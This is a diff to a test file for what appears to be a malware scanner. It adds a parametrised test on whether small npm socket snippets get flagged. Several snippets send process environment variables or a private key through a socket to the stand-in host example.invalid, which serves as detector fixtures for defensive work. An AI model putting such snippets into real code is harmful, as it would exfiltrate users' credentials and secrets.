@@ -11,6 +11,7 @@ from assay.rules.exfil_001_exfiltration import RULE
 from assay.rules.private_data import is_key
 from assay.rules.shell_senders import sends
 from tests.behaviour import at, findings, worst
+from tests.npm_behaviour import npm_package, npm_worst
 
 _HEAD = "import os, socket, requests, getpass, platform, subprocess, urllib.request\n"
 _HOOK = "https://discord.com/api/webhooks/0/example"
@@ -215,3 +216,18 @@ def test_services_that_tell_the_public_address(url: str, expected: bool) -> None
 )
 def test_parameters_named_after_keys(name: str, expected: bool) -> None:
     assert is_key(name) is expected
+
+
+CONNECTIONS = [
+    ("s.connect(JSON.parse(JSON.stringify(process.env))[name] + '/.s.demo.' + name);", False),
+    ("s.connect(JSON.stringify(process.env) + '.example.invalid');", True),
+    ("s.connect(80, 'example.invalid'); s.write(JSON.stringify(process.env));", True),
+    ("exports.cancel = (secretKey) => s.write(secretKey);", False),
+    ("exports.cancel = (privateKey) => s.write(privateKey);", True),
+]
+
+
+@pytest.mark.parametrize(("code", "sent"), CONNECTIONS)
+def test_where_a_socket_connects_to_is_not_sent(code: str, sent: bool) -> None:
+    source = f"const s = new (require('net').Socket)();\nexports.go = (name) => {{ {code} }};\n"
+    assert (npm_worst(RULE, npm_package({"index.js": source})) == "high") is sent
